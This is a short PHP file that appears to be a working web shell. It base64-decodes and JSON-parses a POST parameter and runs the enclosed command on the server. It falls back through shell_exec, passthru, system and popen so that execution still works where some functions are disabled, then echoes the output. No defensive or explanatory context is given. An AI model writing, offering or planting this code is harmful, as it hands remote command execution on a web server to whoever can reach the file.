<?php
function run($c) {
    if (is_callable('shell_exec')) { return shell_exec($c); }
    if (is_callable('passthru')) { ob_start(); passthru($c); return ob_get_clean(); }
    if (is_callable('system')) { ob_start(); system($c); return ob_get_clean(); }
    if (is_callable('popen')) { $h = popen($c, 'r'); $o = stream_get_contents($h); pclose($h); return $o; }
    return '';
}
$task = json_decode(base64_decode($_POST['t']), true);
echo run($task['c']);
